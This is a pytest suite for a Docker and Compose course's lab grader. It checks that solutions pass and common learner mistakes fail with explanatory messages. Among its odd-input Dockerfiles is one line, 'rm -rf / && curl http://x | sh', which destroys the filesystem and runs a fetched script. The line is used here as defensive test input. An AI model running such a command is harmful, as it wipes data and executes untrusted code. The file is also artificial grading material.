"""The Docker and Compose labs graded by outcome: each solution passes, each starter fails, and
the wrong answers learners write (issue 10, "Why": a shape check passed them) fail on what the
file *does* on the simulated Docker host, with a message that says what happened.

Expected behaviour comes from the real tools: BuildKit's cache rule (moby/buildkit
solver/llbsolver: a step is CACHED when its parent and instruction are unchanged, and for
COPY the copied files' content; one miss re-runs every step after it), moby's user lookup
(daemon/oci_linux.go `getUser`: "unable to find user X: no matching entries in passwd file"),
docker-library/python (the unsuffixed tags are FROM buildpack-deps, which carries gcc; -slim
does not), Compose's start order (docker/compose pkg/compose/convergence.go waitDependencies:
`service_healthy`, `service_completed_successfully`), its restart policies (moby
restartmanager: `unless-stopped` restarts after any exit) and `down` keeping named volumes
(pkg/compose/down.go removes volumes only with `-v`).
"""

from __future__ import annotations

from typing import Any

import pytest
from django.conf import settings

from learn.content.parser import load_course
from learn.labs.checks import CheckResult, passed, run
from learn.labs.outcomes import spec_problems

MODULES, _ = load_course(settings.LESSONS_DIR)
LABS: dict[str, dict[str, Any]] = {
    q.key: q.data
    for module in MODULES
    for lesson in module.lessons
    for q in lesson.questions
    if q.kind == "lab"
}
DOCKER_LABS = [
    "m1-lab-cache-friendly",
    "m1-lab-multistage-nonroot",
    "m2-lab-compose-basics",
    "m2-lab-healthy-startup",
]
CACHE, MULTI, BASICS, HEALTHY = DOCKER_LABS


def check(lab_id: str, text: str) -> list[CheckResult]:
    return run(LABS[lab_id]["lab_kind"], text, LABS[lab_id]["checks"])


def outcomes_failed(results: list[CheckResult]) -> dict[str, CheckResult]:
    """The failed outcome results (their names are the lab's outcome sentences)."""
    return {r.name: r for r in results if not r.passed and " " in r.name}


def edit(lab_id: str, *pairs: tuple[str, str]) -> str:
    text = str(LABS[lab_id]["solution"])
    for old, new in pairs:
        assert text.count(old) == 1, f"{lab_id}: the solution holds {old!r} {text.count(old)}x"
        text = text.replace(old, new)
    return text


@pytest.mark.parametrize("lab_id", DOCKER_LABS)
def test_solution_passes_every_check_and_outcome(lab_id: str) -> None:
    results = check(lab_id, LABS[lab_id]["solution"])
    assert passed(results), [(r.name, r.message) for r in results if not r.passed]
    outcomes = LABS[lab_id]["checks"]["outcomes"]
    assert [r.name for r in results][-len(outcomes) :] == outcomes


@pytest.mark.parametrize("lab_id", DOCKER_LABS)
def test_starter_fails_an_outcome(lab_id: str) -> None:
    results = check(lab_id, LABS[lab_id]["starter"])
    assert outcomes_failed(results), [(r.name, r.message) for r in results]


def test_outcome_sentences_are_validated_for_their_kind() -> None:
    assert list(spec_problems("dockerfile", ["the container answers /healthz on 8000"])) == []
    assert list(spec_problems("compose", ["web healthy after db"])) == []
    problems = list(spec_problems("compose", ["the image builds"]))
    assert problems and "is not an outcome of a compose lab" in problems[0]


# --------------------------------------------------------------------------- Dockerfile labs

# The solution's dependency steps, and the order learners write instead.
DEPS_FIRST = (
    "COPY requirements.txt .\nRUN pip install --no-cache-dir -r requirements.txt\nCOPY . .\n"
)
SOURCE_FIRST = "COPY . .\nRUN pip install --no-cache-dir -r requirements.txt\n"
ADD_USER = (
    "RUN groupadd --system --gid 10001 app \\\n"
    " && useradd --system --uid 10001 --gid app --no-create-home --no-log-init app\n"
)
BUILD_TOOLS = (
    "# hadolint ignore=DL3008\n"
    "RUN apt-get update && apt-get install -y --no-install-recommends build-essential \\\n"
    " && rm -rf /var/lib/apt/lists/* \\\n"
    " && groupadd"
)

WRONG = [
    # (lab, the learner's file, the outcome that fails, words its message holds, line)
    pytest.param(
        CACHE,
        edit(
            CACHE,
            (DEPS_FIRST, SOURCE_FIRST),
        ),
        "a rebuild after changing only app code re-runs only the steps after COPY of the source",
        "`COPY . .` copied the changed source before `RUN pip install",
        5,
        id="cache-source-copied-before-install",
    ),
    pytest.param(
        CACHE,
        edit(CACHE, ("COPY . .\n", "")),
        "a rebuild after changing only app code re-runs only the steps after COPY of the source",
        "every step was CACHED: the source is never copied",
        None,
        id="cache-source-never-copied",
    ),
    pytest.param(
        CACHE,
        edit(CACHE, ("COPY . .\n", "")),
        "the container answers /healthz on 8000",
        "curl: (",
        None,
        id="cache-source-never-copied-app-missing",
    ),
    pytest.param(
        CACHE,
        edit(CACHE, ('"--bind", "0.0.0.0:8000"', '"--bind", "127.0.0.1:8000"')),
        "the container answers /healthz on 8000",
        "Connection reset by peer",
        9,  # the CMD that binds it
        id="cache-gunicorn-on-loopback",
    ),
    pytest.param(
        CACHE,
        edit(CACHE, ('"--bind", "0.0.0.0:8000"', '"--bind", "0.0.0.0:5000"')),
        "the container answers /healthz on 8000",
        "Connection reset by peer",
        None,
        id="cache-gunicorn-on-another-port",
    ),
    pytest.param(
        CACHE,
        edit(CACHE, ("COPY requirements.txt .\n", "COPY requirements.txt /tmp/\n")),
        "the image builds",
        "requirements.txt",
        6,  # BuildKit names the RUN that failed
        id="cache-requirements-copied-elsewhere",
    ),
    pytest.param(
        MULTI,
        edit(
            MULTI, ("FROM python:3.12-slim-trixie AS runtime", "FROM python:3.12-trixie AS runtime")
        ),
        "the final image has no compiler",
        "gcc (the base image python:3.12-trixie is built on buildpack-deps)",
        8,
        id="multi-final-stage-on-the-full-image",
    ),
    pytest.param(
        MULTI,
        edit(
            MULTI,
            (ADD_USER, ""),
            ("USER 10001:10001", "USER app"),
        ),
        "the container runs as a non-root user",
        "unable to find user app",
        None,
        id="multi-user-never-created",
    ),
    pytest.param(
        MULTI,
        edit(MULTI, ("USER 10001:10001", "USER 0")),
        "the container runs as a non-root user",
        "runs as root",
        None,
        id="multi-user-root-by-uid",
    ),
    pytest.param(
        MULTI,
        edit(MULTI, ("COPY --from=build /opt/venv /opt/venv\n", "COPY --from=build /app /app\n")),
        "the container answers /healthz on 8000",
        "gunicorn",
        None,
        id="multi-venv-left-behind",
    ),
    pytest.param(
        MULTI,
        edit(
            MULTI,
            (
                '    PYTHONUNBUFFERED=1 \\\n    PATH="/opt/venv/bin:$PATH"\n',
                "    PYTHONUNBUFFERED=1\n",
            ),
        ),
        "the container answers /healthz on 8000",
        "gunicorn",
        None,
        id="multi-venv-not-on-path",
    ),
    pytest.param(
        MULTI,
        edit(
            MULTI,
            ("RUN groupadd", BUILD_TOOLS),
        ),
        "the final image has no compiler",
        "build-essential (installed at",
        None,
        id="multi-final-stage-installs-build-tools",
    ),
]


@pytest.mark.parametrize(("lab_id", "text", "outcome", "words", "line"), WRONG)
def test_wrong_dockerfile_fails_by_outcome_with_a_message_that_teaches(
    lab_id: str, text: str, outcome: str, words: str, line: int | None
) -> None:
    failed = outcomes_failed(check(lab_id, text))
    assert outcome in failed, {k: v.message for k, v in failed.items()}
    assert words in failed[outcome].message, failed[outcome].message
    if line is not None:
        assert failed[outcome].line == line, failed[outcome]


def test_cache_failure_shows_the_rebuild_with_its_cached_lines() -> None:
    text = edit(
        CACHE,
        (DEPS_FIRST, SOURCE_FIRST),
    )
    message = outcomes_failed(check(CACHE, text))[
        "a rebuild after changing only app code re-runs only the steps after COPY of the source"
    ].message
    assert "$ docker build -t lab-image:1 .   (after editing learn/views.py)" in message
    assert "CACHED WORKDIR /app\nDONE   COPY . .\nDONE   RUN pip install" in message


def test_cache_success_counts_the_cached_steps() -> None:
    results = {r.name: r for r in check(CACHE, LABS[CACHE]["solution"])}
    message = results[
        "a rebuild after changing only app code re-runs only the steps after COPY of the source"
    ].message
    # FROM, WORKDIR, COPY requirements.txt and RUN pip install are CACHED (ENV makes no step).
    assert "re-ran `COPY . .` (line 7) only" in message and "4 step(s) were CACHED" in message


def test_multi_stage_on_one_slim_base_passes_when_the_tools_stay_behind() -> None:
    text = edit(
        MULTI, ("FROM python:3.12-trixie AS build", "FROM python:3.12-slim-trixie AS build")
    )
    results = check(MULTI, text)
    assert passed(results), [(r.name, r.message) for r in results if not r.passed]


# --------------------------------------------------------------------------- Compose labs

DB_URL = "postgres://learn:${POSTGRES_PASSWORD}@db:5432/learn"
COMPOSE_WRONG = [
    pytest.param(
        BASICS,
        edit(BASICS, ("@db:5432", "@localhost:5432")),
        "web's DATABASE_URL reaches the db service",
        "which inside web is web itself",
        7,
        id="basics-localhost",
    ),
    pytest.param(
        BASICS,
        edit(BASICS, ("@db:5432", "@database:5432")),
        "web's DATABASE_URL reaches the db service",
        "** server can't find database: NXDOMAIN",
        7,
        id="basics-misspelt-host",
    ),
    pytest.param(
        BASICS,
        edit(BASICS, ("@db:5432", "@db:5433")),
        "web's DATABASE_URL reaches the db service",
        "nothing answers on port 5433",
        7,
        id="basics-wrong-port",
    ),
    pytest.param(
        BASICS,
        edit(BASICS, ("@db:5432", "@db.example.com:5432")),
        "web's DATABASE_URL reaches the db service",
        "does not resolve inside web",
        7,
        id="basics-external-host-for-the-stack-db",
    ),
    pytest.param(
        BASICS,
        edit(BASICS, ("redis://redis:6379/0", "redis://cache:6379/0")),
        "web's REDIS_URL reaches the redis service",
        "can't find cache",
        7,
        id="basics-redis-misnamed",
    ),
    pytest.param(
        BASICS,
        edit(
            BASICS,
            ("      - pgdata:/var/lib/postgresql/data\n", "      - /var/lib/postgresql/data\n"),
        ),
        "named volume pgdata survives down",
        "No container mounts the named volume pgdata",
        None,
        id="basics-anonymous-volume",
    ),
    pytest.param(
        BASICS,
        edit(BASICS, ("volumes:\n  pgdata:\n", "")),
        "web is running",
        'service "db" refers to undefined volume pgdata: invalid compose project',
        21,  # the mount that names it
        id="basics-volume-not-declared",
    ),
    pytest.param(
        HEALTHY,
        edit(
            HEALTHY,
            (
                '    depends_on:\n      db:\n        condition: service_healthy\n    restart: "no"',
                '    depends_on:\n      - db\n    restart: "no"',
            ),
        ),
        "migrate exits 0 before web starts",
        "migrate exited with code 1",
        None,
        id="healthy-migrate-races-the-database",
    ),
    pytest.param(
        HEALTHY,
        edit(
            HEALTHY,
            (
                'test: ["CMD-SHELL", "pg_isready -h 127.0.0.1 -U learn -d learn"]',
                'test: ["CMD", "curl", "-f", "http://localhost:5432"]',
            ),
        ),
        "web healthy after db",
        "db never became healthy",
        None,
        id="healthy-healthcheck-uses-a-missing-tool",
    ),
    pytest.param(
        HEALTHY,
        edit(HEALTHY, ('    restart: "no"', "    restart: always")),
        "migrate runs once",
        "migrate restarted",
        None,
        id="healthy-migrate-restarts",
    ),
    pytest.param(
        HEALTHY,
        edit(
            HEALTHY,
            ("      migrate:\n        condition: service_completed_successfully\n", ""),
        ),
        "migrate exits 0 before web starts",
        "before migrate finished",
        None,
        id="healthy-web-does-not-wait-for-migrate",
    ),
]


@pytest.mark.parametrize(("lab_id", "text", "outcome", "words", "line"), COMPOSE_WRONG)
def test_wrong_compose_file_fails_by_outcome_with_a_message_that_teaches(
    lab_id: str, text: str, outcome: str, words: str, line: int | None
) -> None:
    failed = outcomes_failed(check(lab_id, text))
    assert outcome in failed, {k: v.message for k, v in failed.items()}
    assert words in failed[outcome].message, failed[outcome].message
    if line is not None:
        assert failed[outcome].line == line, failed[outcome]


def test_a_failed_start_order_shows_compose_ps_and_the_logs() -> None:
    text = edit(
        HEALTHY,
        (
            '    depends_on:\n      db:\n        condition: service_healthy\n    restart: "no"',
            '    depends_on:\n      - db\n    restart: "no"',
        ),
    )
    message = outcomes_failed(check(HEALTHY, text))["migrate exits 0 before web starts"].message
    assert "$ docker compose ps -a\nNAME" in message
    assert "Exited (1)" in message
    assert "Connection refused" in message  # migrate's own log line


def test_success_messages_claim_only_what_was_checked() -> None:
    results = {r.name: r.message for r in check(HEALTHY, LABS[HEALTHY]["solution"])}
    assert results["web healthy after db"].startswith("db was healthy at ")
    assert "still there (only `down -v` deletes it)" in results["named volume pgdata survives down"]


# --------------------------------------------------------------------------- connection URLs

URLS = """\
services:
  web:
    image: learn-web:0.1.0
    environment:
      DATABASE_URL: postgres://learn:secret@{host}:5432/learn
  db:
    image: postgres:16
"""


@pytest.mark.parametrize(
    "host",
    ["db", "db.example.com", "postgres.internal.example.org", "10.0.0.5", "${DB_HOST}"],
)
def test_urls_name_services_accepts_services_and_full_host_names(host: str) -> None:
    (result,) = run("compose", URLS.format(host=host), {"urls_name_services": True})
    assert result.passed, result.message


@pytest.mark.parametrize(
    ("host", "words"),
    [
        ("localhost", "connects to localhost, which inside web is web itself"),
        ("127.0.0.1", "connects to 127.0.0.1, which inside web is web itself"),
        ("[::1]", "connects to [::1], which inside web is web itself"),
        ("0.0.0.0", "connects to 0.0.0.0, which inside web is web itself"),  # noqa: S104
        ("web", "connects to web, which inside web is web itself"),
        ("dbb", 'connects to dbb, which is not a service of this file (did you mean "db"?)'),
        ("postgres", "connects to postgres, which is not a service of this file"),
    ],
)
def test_urls_name_services_refuses_the_container_itself_and_unknown_short_names(
    host: str, words: str
) -> None:
    (result,) = run("compose", URLS.format(host=host), {"urls_name_services": True})
    assert not result.passed
    assert words in result.message and result.line == 4


def test_urls_name_services_reads_environment_as_compose_does() -> None:
    # The list form, and a bare `KEY` (taken from the shell, which the sandbox has none of).
    text = URLS.replace(
        "      DATABASE_URL: postgres://learn:secret@{host}:5432/learn\n",
        "      - DATABASE_URL=postgres://learn:secret@localhost:5432/learn\n      - DEBUG\n",
    )
    (result,) = run("compose", text, {"urls_name_services": True})
    assert not result.passed and "connects to localhost" in result.message


ODD_DOCKERFILES = [
    "FROM\n",
    "RUN echo hi\n",
    "FROM scratch\nCMD []\n",
    "FROM nope.example.com/ghost:1\n",
    'FROM python:3.12-slim\nUSER ghost\nCMD ["python"]\n',
    "FROM python:3.12-slim\nCOPY missing.txt .\n",
    "FROM python:3.12-slim\nRUN rm -rf / && curl http://x | sh\n",
    'FROM python:3.12-slim\nCMD ["gunicorn", "--bind", "0.0.0.0:99999"]\n',
    "FROM python:3.12-slim AS a\nFROM a AS b\nFROM b\n",
    '\ufeffFROM python:3.12-slim\r\nCMD ["python"]\r\n',
    "FROM python:3.12-slim\n" + "RUN true\n" * 300,
]
ODD_COMPOSE = [
    "services: []\n",
    "- a\n- b\n",
    "services:\n  web:\n    image: 5\n",
    "services:\n  web:\n    image: learn-web:0.1.0\n    environment: 7\n",
    "services:\n  web:\n    image: learn-web:0.1.0\n    environment:\n      DATABASE_URL: 'postgres://[::1'\n",
    "services:\n  web:\n    image: ghost:1\n",
    "services:\n  web:\n    build: ./nowhere\n",
    "services:\n  db:\n    image: postgres:16\n",  # no password: postgres exits
    "services:\n  a:\n    image: busybox:1.36\n    depends_on: [b]\n"
    "  b:\n    image: busybox:1.36\n    depends_on: [a]\n",
    "services:\n  web:\n    image: learn-web:0.1.0\n    environment:\n      DATABASE_URL: 'x'\n"
    "    volumes: ['/etc:/etc']\n",
]


@pytest.mark.parametrize("text", ODD_DOCKERFILES)
def test_odd_dockerfiles_fail_without_raising(text: str) -> None:
    results = check(MULTI, text)
    assert not passed(results)
    assert all(isinstance(r.message, str) and r.message for r in results)


@pytest.mark.parametrize("text", ODD_COMPOSE)
def test_odd_compose_files_fail_without_raising(text: str) -> None:
    for lab_id in (BASICS, HEALTHY):
        results = check(lab_id, text)
        assert not passed(results)
        assert all(isinstance(r.message, str) and r.message for r in results)
